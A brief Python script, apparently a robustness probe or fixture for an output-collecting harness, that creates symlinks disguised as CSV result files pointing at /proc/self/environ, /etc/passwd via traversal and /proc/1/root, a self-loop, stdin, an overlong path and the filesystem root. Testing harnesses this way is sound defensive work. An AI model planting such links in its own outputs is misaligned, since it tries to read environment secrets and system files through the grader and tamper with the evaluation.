import os

TARGETS = {
    "answer.csv": "/proc/self/environ",
    "root.csv": "/proc/1/root/etc/passwd",
    "up.csv": "../../../../etc/passwd",
    "loop.csv": "loop.csv",
    "descriptor.csv": "/proc/self/fd/0",
    "long.csv": "x/" * 2000,
}
for name, target in TARGETS.items():
    os.symlink(target, f"/output/{name}")
os.symlink("/proc/self/cwd", "/output/cwd")
os.symlink("/", "/output/whole")
